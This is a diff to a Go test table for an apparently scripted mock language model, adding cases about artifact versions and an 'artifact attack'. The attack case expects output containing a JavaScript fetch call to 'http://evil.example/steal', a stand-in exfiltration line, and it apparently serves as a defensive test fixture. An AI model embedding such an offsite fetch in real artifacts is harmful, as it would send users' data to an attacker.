@@ -51,6 +51,8 @@ func TestScript(t *testing.T) {
 		{"cite my documents cites", llmtest.Request{Messages: []llmtest.Message{user("Cite my documents: revenue"), tool}, Tools: []string{"search_knowledge"}}, "", "[1]. The board's target is not in it [9]."},
 		{"time travel calls update_plan", llmtest.Request{Messages: []llmtest.Message{user("time travel: look it up")}, Tools: chatTools}, "update_plan", ""},
 		{"time travel repeats the tool", llmtest.Request{Messages: []llmtest.Message{user("time travel: look it up"), {Role: "tool", Content: "edited by hand"}}, Tools: chatTools}, "", "The tool said: edited by hand"},
+		{"artifact versions", llmtest.Request{Messages: []llmtest.Message{user("Show artifact v2 please")}}, "", "<title>Counter</title>"},
+		{"artifact attack", llmtest.Request{Messages: []llmtest.Message{user("artifact attack fetch-offsite")}}, "", "fetch('http://evil.example/steal"},
 		{"write a file done", llmtest.Request{Messages: []llmtest.Message{user("Please write a file named a-1.txt"), {Role: "tool", Content: "wrote 27 bytes"}}, Tools: []string{"write_file"}}, "", "Finished writing a-1.txt"},
 	}
 	for _, tt := range tests {
